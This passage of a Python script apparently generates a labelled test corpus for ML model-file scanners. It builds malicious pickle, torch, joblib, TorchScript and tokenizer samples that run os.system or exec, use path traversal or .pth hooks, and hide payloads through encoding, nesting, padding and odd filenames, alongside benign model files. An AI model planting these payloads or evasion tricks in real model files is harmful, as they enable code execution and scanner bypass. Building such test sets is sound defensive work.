        body = (glob0("joblib.numpy_pickle_compat", "NDArrayWrapper") + b")\x81"
                + b"}(" + enc("filename", 2) + enc(filename, 2) + enc("subclass", 2) + glob0("numpy", "ndarray")
                + enc("allow_mmap", 2) + b"\x89u" + b"b")
        return pk(body, 2)

    side = npy_raw("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", system_pickle(2))
    c.mal(k, "hidden_sidecar", {"model.joblib": wrapper(".w_01.npy"), ".w_01.npy": side}, "joblib-compat",
          "old joblib NDArrayWrapper -> hidden dotfile sidecar '.w_01.npy' holding an object array")
    c.mal(k, "license_sidecar", {"model.joblib": wrapper("LICENSE"), "LICENSE": side}, "joblib-compat",
          "NDArrayWrapper sidecar named LICENSE (object .npy without extension)")
    c.mal(k, "traversal_sidecar.joblib", wrapper("../../../tmp/mlsecops-c.npy"), "joblib-compat",
          "NDArrayWrapper filename with ../ traversal: np.load(allow_pickle=True) of a file outside the model folder")


def odd_names(c: Corpus) -> None:
    k = "hidden-and-odd-names"
    c.mal(k, ".model.pkl", system_pickle(4), "pickle-p4", "dotfile pickle (hidden from ls and many walkers)")
    c.mal(k, "dotdir_cache", {"config.json": b"{}", ".cache/weights.pkl": system_pickle(2)}, "folder",
          "payload inside a hidden .cache/ folder of a model folder")
    c.mal(k, "MODEL.PKL", system_pickle(1), "pickle-p1", "upper-case extension")
    c.mal(k, "model.pkl.1", system_pickle(3), "pickle-p3", "log-rotation style suffix .pkl.1")
    c.mal(k, "weights.pt~", torch_zip(system_pickle(2)), "torch-zip", "editor backup suffix ~ on a torch zip")


def torchscript_code(c: Corpus) -> None:
    k = "torchscript-code"
    try:
        import importlib.util
        import tempfile

        import torch
    except ImportError:
        return
    src = (
        "import torch\n\n\n"
        "class Reader(torch.nn.Module):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.x = torch.zeros(1)\n\n"
        "    def forward(self, x):\n"
        "        return x + torch.from_file('/tmp/mlsecops-c-canary', False, 4)\n\n\n"
        "class SetState(Reader):\n"
        "    @torch.jit.export\n"
        "    def __getstate__(self):\n"
        "        return (self.x, self.training)\n\n"
        "    @torch.jit.export\n"
        "    def __setstate__(self, s: tuple[torch.Tensor, bool]):\n"
        "        self.x = torch.from_file('/etc/hostname', False, 4)\n"
        "        self.training = s[1]\n"
    )
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "mlsecops_c_ts.py"
        path.write_text(src)
        spec = importlib.util.spec_from_file_location("mlsecops_c_ts", path)
        assert spec and spec.loader
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)  # defines classes only; from_file runs in forward/__setstate__
        for name, cls, tech in (("ts_forward_from_file.pt", mod.Reader, "TorchScript forward reads a host file with torch.from_file"),
                                ("ts_setstate_from_file.pt", mod.SetState,
                                 "TorchScript __setstate__ (run by torch.jit.load) reads /etc/hostname with torch.from_file")):
            buf = io.BytesIO()
            torch.jit.save(torch.jit.script(cls()), buf)
            with zipfile.ZipFile(buf) as zf:  # drop debug info (it names the temp dir) and pin the random id
                members = [(i.filename, b"0" * 40 if i.filename.endswith("serialization_id") else zf.read(i))
                           for i in zf.infolist() if not i.filename.endswith(".debug_pkl")]
            c.mal(k, name, zip_bytes(members), "torchscript", tech)


def budgets(c: Corpus) -> None:
    k = "scanner-budgets"
    level = torch_legacy(pk(b"}", 2), sysinfo=system_pickle(2))
    for _ in range(12):  # each level: a torch zip whose data.pkl hands the level below to _load_from_bytes
        level = torch_zip(pk(call(ref("torch.storage", "_load_from_bytes", 3), (level,), 3), 3))
    c.mal(k, "load_from_bytes_depth12.pt", level, "torch-zip",
          "12 nested torch.storage._load_from_bytes levels; the payload is the innermost legacy sys_info pickle")
    depth = 20000
    c.mal(k, "deep_marks.pkl", proto(2) + b"(" * depth + call(glob0("os", "system"), (CMD,), 2) + b"t" * depth + b".",
          "pickle-p2", f"payload inside {depth} nested MARK/TUPLE levels (recursion limits of tree builders)")
    pad = 48 * 1024 * 1024
    big = proto(4) + b"\x8e" + struct.pack("<Q", pad) + b"\x00" * pad + b"0" + call(sglob("os", "system"), (CMD,), 4) + b"."
    c.mal(k, "padded_48mb.pkl", big, "pickle-p4", "48 MiB BINBYTES8 of zeros, then POP, then the payload")
    c.mal(k, "padded_48mb.pkl.gz", gz(big), "gzip", "the same, gzip-compressed to ~50 KiB (decompression budget)")
    c.mal(k, "many_memo_puts.pkl", proto(2) + (b"N" + b"q\x00" + b"0") * 200000 + system_pickle(2)[2:], "pickle-p2",
          "200000 no-op NONE/BINPUT/POP triples before the payload (opcode-count budget)")


def tokenizer_redos(c: Corpus) -> None:
    k = "tokenizer-regex-dos"
    for name, where, rx in (("redos_pre_tokenizer", "pre_tokenizer", "(a+)+$"),
                            ("redos_normalizer", "normalizer", "(\\w+\\s?)*$")):
        tok = {"version": "1.0", "truncation": None, "padding": None, "added_tokens": [], "normalizer": None,
               "pre_tokenizer": None, "post_processor": None, "decoder": None,
               "model": {"type": "WordLevel", "vocab": {"[UNK]": 0, "a": 1}, "unk_token": "[UNK]"}}
        if where == "pre_tokenizer":
            tok["pre_tokenizer"] = {"type": "Split", "pattern": {"Regex": rx}, "behavior": "Isolated", "invert": False}
        else:
            tok["normalizer"] = {"type": "Replace", "pattern": {"Regex": rx}, "content": " "}
        c.mal(k, name, {"tokenizer.json": json.dumps(tok).encode(),
                        "tokenizer_config.json": json.dumps({"tokenizer_class": "PreTrainedTokenizerFast"}).encode()},
              "hf-tokenizer", f"catastrophic-backtracking regex {rx!r} in tokenizer.json {where} (CWE-1333)")


def misc_hooks(c: Corpus) -> None:
    k = "misc-loader-hooks"
    c.mal(k, "site_hook_folder", {"config.json": b"{}", "mlsecops_c.pth": ("import os; os.system('" + CMD + "')\n").encode()},
          "site-pth", "text .pth path-configuration file whose 'import' line runs when copied into site-packages")
    good = zip_bytes([("archive/data.pkl", system_pickle(2)), ("archive/version", b"3\n")])
    # rename the local header of data.pkl only: central directory and local header now disagree
    bad = good.replace(b"archive/data.pkl", b"archive/data.pkX", 1)
    c.mal(k, "header_name_mismatch.pt", bad, "torch-zip",
          "local header name differs from the central directory: Python zipfile refuses the member, readers that "
          "trust the directory alone do not")


def ext_registry(c: Corpus) -> None:
    k = "extension-registry"
    for p, code, op in ((2, 240, b"\x82" + bytes([240])), (3, 0x1234, b"\x83" + struct.pack("<H", 0x1234)),
                        (4, 0x7FFF0000, b"\x84" + struct.pack("<i", 0x7FFF0000))):
        body = (call(ref("copyreg", "add_extension", p), ("subprocess" if p == 3 else "os",
                                                           "getoutput" if p == 3 else "system", code), p)
                + b"0" + op + enc((CMD,), p) + b"R")
        c.mal(k, f"ext{len(op) - 1 if len(op) < 4 else 4}_registry_p{p}.pkl", pk(body, p), f"pickle-p{p}",
              f"copyreg.add_extension registers the callable by string, then EXT opcode code {code:#x} fetches it")


def nested_encoded(c: Corpus) -> None:
    k = "nested-encoded-pickles"
    inner = system_pickle(2)
    b64 = call(sglob("_codecs", "decode"), (base64.b64encode(inner), "base64"), 4)
    c.mal(k, "loads_base64.pkl", pk(sglob("pickle", "loads") + b"(" + b64 + b"tR", 4), "pickle-p4",
          "pickle.loads(_codecs.decode(<base64 bytes>, 'base64')): the inner pickle is never literal")
    zl = call(sglob("zlib", "decompress"), (zlib.compress(inner),), 4)
    c.mal(k, "loads_zlib.pkl", pk(sglob("_pickle", "loads") + b"(" + zl + b"tR", 4), "pickle-p4",
          "_pickle.loads(zlib.decompress(<bytes>)) via the C module name")
    hexed = call(sglob("_codecs", "decode"), (inner.hex(), "hex"), 3)
    c.mal(k, "torch_loads_hex.pt", torch_zip(pk(sglob("pickle", "loads") + b"(" + hexed + b"tR", 3)), "torch-zip",
          "torch zip: pickle.loads(_codecs.decode('<hex str>', 'hex'))")
    c.mal(k, "builtins_dict_get.pkl",
          pk(call(sglob("builtins", "__dict__.get"), ("exec",), 4) + enc((PY_CANARY,), 4) + b"R", 4), "pickle-p4",
          "protocol-4 dotted name builtins:__dict__.get('exec') returns exec, second REDUCE runs it")


MALICIOUS = [py2_compat_names, computed_global_names, escaped_name_strings, dotted_attr_traversal,
             stdlib_exec_gadgets, resolver_indirection, network_on_construct, file_tamper, trusted_reconstructors,
             legacy_inst_obj, polyglot_prefix, archive_tricks, compression_tricks, npy_tricks, keras_tricks,
             hdf5_pickle, gguf_templates, hf_templates, hf_remote_code, onnx_external, torch_carriers,
             broken_streams, cloudpickle_code, skops_untrusted, deferred_trigger, joblib_sidecar, odd_names,
             torchscript_code, budgets, tokenizer_redos, misc_hooks,
             ext_registry, nested_encoded]


# --------------------------------------------------------------------------- benign
def benign_sklearn(c: Corpus) -> None:
    import pickle

    import joblib
    import numpy as np
    from sklearn import (
        cluster,
        decomposition,
        ensemble,
        feature_extraction,
        linear_model,
        naive_bayes,
        neighbors,
        neural_network,
        pipeline,
        preprocessing,
        svm,
        tree,
    )

    rng = np.random.RandomState(0)
    x = rng.rand(60, 4)
    y = (x[:, 0] > 0.5).astype(int)
    yr = x @ np.array([1.0, 2.0, 0.5, -1.0])
    texts = ["good model", "bad data", "fine tune", "secure scan", "poison row", "clean set"] * 5
    ty = np.array([0, 1] * 15)
    makers: list[tuple[str, Callable[[], Any]]] = [
        ("logreg", lambda: linear_model.LogisticRegression(max_iter=200).fit(x, y)),
        ("linreg", lambda: linear_model.LinearRegression().fit(x, yr)),
        ("ridge", lambda: linear_model.Ridge().fit(x, yr)),
        ("lasso", lambda: linear_model.Lasso(alpha=0.01).fit(x, yr)),
        ("sgd", lambda: linear_model.SGDClassifier(random_state=0).fit(x, y)),
        ("linearsvc", lambda: svm.LinearSVC(random_state=0).fit(x, y)),
        ("svc", lambda: svm.SVC(probability=True, random_state=0).fit(x, y)),
        ("knn", lambda: neighbors.KNeighborsClassifier(3).fit(x, y)),
        ("dtree", lambda: tree.DecisionTreeClassifier(random_state=0).fit(x, y)),
        ("rforest", lambda: ensemble.RandomForestClassifier(n_estimators=5, random_state=0).fit(x, y)),
        ("gboost", lambda: ensemble.GradientBoostingClassifier(n_estimators=5, random_state=0).fit(x, y)),
        ("histgb", lambda: ensemble.HistGradientBoostingClassifier(max_iter=5, random_state=0).fit(x, y)),
        ("extratrees", lambda: ensemble.ExtraTreesClassifier(n_estimators=5, random_state=0).fit(x, y)),
        ("gnb", lambda: naive_bayes.GaussianNB().fit(x, y)),
        ("kmeans", lambda: cluster.KMeans(2, n_init=2, random_state=0).fit(x)),
        ("pca", lambda: decomposition.PCA(2, random_state=0).fit(x)),
        ("scaler", lambda: preprocessing.StandardScaler().fit(x)),
        ("onehot", lambda: preprocessing.OneHotEncoder().fit(np.array([["a"], ["b"], ["c"]]))),
        ("mlp", lambda: neural_network.MLPClassifier((5,), max_iter=50, random_state=0).fit(x, y)),
        ("tfidf_pipe", lambda: pipeline.Pipeline([("t", feature_extraction.text.TfidfVectorizer()),
                                                  ("m", linear_model.LogisticRegression())]).fit(texts, ty)),
    ]
    import warnings

    import skops.io as sio

    for name, make in makers:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            est = make()
        c.ben("sklearn-pickle", f"sk_{name}.pkl", pickle.dumps(est, protocol=pickle.HIGHEST_PROTOCOL), "pickle-p5",
              f"pickle.dumps of fitted {type(est).__name__}")
        buf = io.BytesIO()
        compress = 3 if name in ("rforest", "histgb", "tfidf_pipe", "svc") else 0
        joblib.dump(est, buf, compress=compress)
        c.ben("sklearn-joblib", f"sk_{name}.joblib", buf.getvalue(), "joblib-z" if compress else "joblib",
              f"joblib.dump(compress={compress}) of {type(est).__name__}")
        c.ben("sklearn-skops", f"sk_{name}.skops", sio.dumps(est), "skops", f"skops.io.dumps of {type(est).__name__}")


def benign_data(c: Corpus) -> None:
    import numpy as np
    import pandas as pd

    rng = np.random.RandomState(1)
    df = pd.DataFrame({"a": rng.rand(20), "b": list("abcdefghij") * 2,
                       "t": pd.date_range("2024-01-01", periods=20, freq="D"), "c": pd.Categorical(["x", "y"] * 10)})
    tmp = c.dest / "_tmp"
    tmp.mkdir(exist_ok=True)
    for name, comp in (("frame.pkl", None), ("frame.pkl.gz", "gzip"), ("frame.pkl.xz", "xz"), ("frame.pkl.zst", "zstd")):
        try:
            df.to_pickle(tmp / name, compression=comp)
        except (ImportError, ValueError) as exc:  # an optional compressor may be missing
            print(f"benign {name} skipped: {exc}", file=sys.stderr)
            continue
        c.ben("pandas", name, (tmp / name).read_bytes(), "pandas-pickle", f"DataFrame.to_pickle(compression={comp})")
    for name, arr in (("strings.npy", np.array(["alpha", "beta", "gamma"])),
                      ("bytes.npy", np.array([b"ab", b"cd"])),
                      ("structured.npy", np.array([(1, 2.0, b"x")], dtype=[("i", "<i4"), ("f", "<f8"), ("s", "S3")])),
                      ("fortran.npy", np.asfortranarray(rng.rand(3, 4)))):
        buf = io.BytesIO()
        np.save(buf, arr)
        c.ben("numpy", name, buf.getvalue(), "npy", f"np.save of {arr.dtype} array")
    buf = io.BytesIO()
    np.savez_compressed(buf, w=rng.rand(4, 4), labels=np.array(["a", "b"]))
    c.ben("numpy", "arrays.npz", buf.getvalue(), "npz", "np.savez_compressed of float and unicode arrays")
    buf = io.BytesIO()
    np.savez(buf, rng.rand(2))
    c.ben("numpy", "plain.npz", buf.getvalue(), "npz", "np.savez")


def benign_torch(c: Corpus) -> None:
    import torch

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(4, 8), torch.nn.ReLU(), torch.nn.Linear(8, 2))
    opt = torch.optim.Adam(net.parameters())
    net(torch.randn(3, 4)).sum().backward()
    opt.step()

    def save(obj: Any, **kw: Any) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, **kw)
        return buf.getvalue()

    c.ben("torch", "state_dict.pt", save(net.state_dict()), "torch-zip", "torch.save(state_dict)")
    c.ben("torch", "state_dict_legacy.pth", save(net.state_dict(), _use_new_zipfile_serialization=False),
          "torch-legacy", "torch.save(state_dict, _use_new_zipfile_serialization=False)")
    c.ben("torch", "checkpoint.ckpt", save({"epoch": 3, "model": net.state_dict(), "optimizer": opt.state_dict(),
                                            "loss": 0.25, "rng": torch.get_rng_state()}), "torch-zip",
          "training checkpoint (model, optimizer, rng state)")
    c.ben("torch", "tensors.bin", save({"emb": torch.randn(5, 3, dtype=torch.float16), "ids": torch.arange(5)}),
          "torch-zip", "dict of fp16/int tensors")
    scripted = torch.jit.script(net)
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    c.ben("torch", "scripted.pt", buf.getvalue(), "torchscript", "torch.jit.script + torch.jit.save")
    traced = torch.jit.trace(net, torch.randn(1, 4))
    buf = io.BytesIO()
    torch.jit.save(traced, buf)
    c.ben("torch", "traced.pt", buf.getvalue(), "torchscript", "torch.jit.trace + torch.jit.save")
    try:
        from safetensors.torch import save as st_save

        c.ben("safetensors", "model.safetensors", st_save({k: v.contiguous() for k, v in net.state_dict().items()},
                                                          metadata={"format": "pt"}), "safetensors",
              "safetensors.torch.save of a state dict")
        import numpy as np
        from safetensors.numpy import save as np_save

        c.ben("safetensors", "arrays.safetensors", np_save({"a": np.arange(6, dtype=np.int64).reshape(2, 3)}),
              "safetensors", "safetensors.numpy.save")
    except ImportError:
        pass


def benign_keras(c: Corpus) -> None:
    os.environ.setdefault("KERAS_BACKEND", "torch")
    import keras

    keras.utils.set_random_seed(0)
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"),
                              keras.layers.Dropout(0.1), keras.layers.Dense(2, activation="softmax")])
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
    tmp = c.dest / "_tmp"
    tmp.mkdir(exist_ok=True)
    model.save(tmp / "m.keras")
    c.ben("keras", "dense.keras", (tmp / "m.keras").read_bytes(), "keras", "keras Sequential model.save('.keras')")
    model.save(tmp / "m.h5")
    c.ben("keras", "dense.h5", (tmp / "m.h5").read_bytes(), "keras-h5", "keras legacy HDF5 model.save('.h5')")
    model.save_weights(tmp / "m.weights.h5")
    c.ben("keras", "dense.weights.h5", (tmp / "m.weights.h5").read_bytes(), "keras-weights", "model.save_weights")
    inp = keras.Input((6,), dtype="int32")
    emb = keras.layers.Embedding(50, 4)(inp)
    out = keras.layers.Dense(1, activation="sigmoid")(keras.layers.GlobalAveragePooling1D()(emb))
    fn = keras.Model(inp, out)
    fn.save(tmp / "f.keras")
    c.ben("keras", "text_functional.keras", (tmp / "f.keras").read_bytes(), "keras", "functional Embedding model .keras")


def benign_tokenizers(c: Corpus) -> None:
    from tokenizers import Tokenizer, models, pre_tokenizers, trainers

    tok = Tokenizer(models.BPE(unk_token="[UNK]"))
    tok.pre_tokenizer = pre_tokenizers.Whitespace()
    trainer = trainers.BpeTrainer(vocab_size=200, special_tokens=["[UNK]", "[PAD]", "[CLS]", "[SEP]"])
    tok.train_from_iterator(["secure model scanning pipeline", "the quick brown fox", "jumps over the lazy dog"] * 20,
                            trainer)
    c.ben("tokenizers", "tokenizer.json", tok.to_str().encode(), "tokenizer-json", "tokenizers BPE Tokenizer.to_str()")
    tmp = c.dest / "_tmp" / "tok"
    tmp.mkdir(parents=True, exist_ok=True)
    try:
        os.environ.setdefault("HF_HUB_OFFLINE", "1")
        from transformers import PreTrainedTokenizerFast

        fast = PreTrainedTokenizerFast(tokenizer_object=tok, unk_token="[UNK]", pad_token="[PAD]",
                                       cls_token="[CLS]", sep_token="[SEP]")
        fast.chat_template = ("{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
                              "{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>' }}{% endif %}")
        fast.save_pretrained(tmp)
        files = {p.relative_to(tmp).as_posix(): p.read_bytes() for p in sorted(tmp.rglob("*")) if p.is_file()}
        c.ben("tokenizers", "hf_tokenizer_dir", files, "hf-tokenizer",
              "PreTrainedTokenizerFast.save_pretrained with a plain chat template")
    except ImportError:
        pass
    for name, body in (("vocab.txt", "[PAD]\n[UNK]\n[CLS]\n[SEP]\nhello\nworld\n"),
                       ("merges.txt", "#version: 0.2\nh e\nl l\nhe ll\n")):
        c.ben("tokenizers", name, body.encode(), "text", f"plain {name}")
    c.ben("gguf", "plain_template.gguf",
          gguf([("general.architecture", 8, "llama"), ("general.name", 8, "mlsecops-c-benign"),
                ("tokenizer.chat_template", 8, "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}")]),
          "gguf", "GGUF metadata with an ordinary chat template (hand-written to the spec)")
    g = pb_len(5, onnx_tensor("w", "weights.bin")) + pb_len(2, b"g") + pb_len(12, onnx_value_info("w"))
    c.ben("onnx", "external_ok", {"model.onnx": onnx_model(g), "weights.bin": b"\x00" * 16}, "onnx-folder",
          "ONNX model with a sibling external-data file (hand-written protobuf)")


BENIGN = [benign_sklearn, benign_data, benign_torch, benign_keras, benign_tokenizers]


def generate(dest: Path) -> list[dict[str, str]]:
    import shutil

    dest = dest.resolve()
    for label in ("malicious", "benign"):
        if (dest / label).exists():
            shutil.rmtree(dest / label)
    dest.mkdir(parents=True, exist_ok=True)
    c = Corpus(dest)
    for fn in MALICIOUS:
        fn(c)
    for fn in BENIGN:
        fn(c)
    shutil.rmtree(dest / "_tmp", ignore_errors=True)
    (dest / "manifest.json").write_text(json.dumps(c.entries, indent=1) + "\n")
    return c.entries


def main() -> int:
    if len(sys.argv) != 2 or sys.argv[1].startswith("-"):
        print("usage: gen_model_redteam_c.py DEST", file=sys.stderr)
        return 2
    entries = generate(Path(sys.argv[1]))
    mal = [e for e in entries if e["label"] == "malicious"]
    print(f"set C: {len(mal)} malicious samples in {len({e['class'] for e in mal})} classes, "
          f"{len(entries) - len(mal)} benign samples -> {sys.argv[1]}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
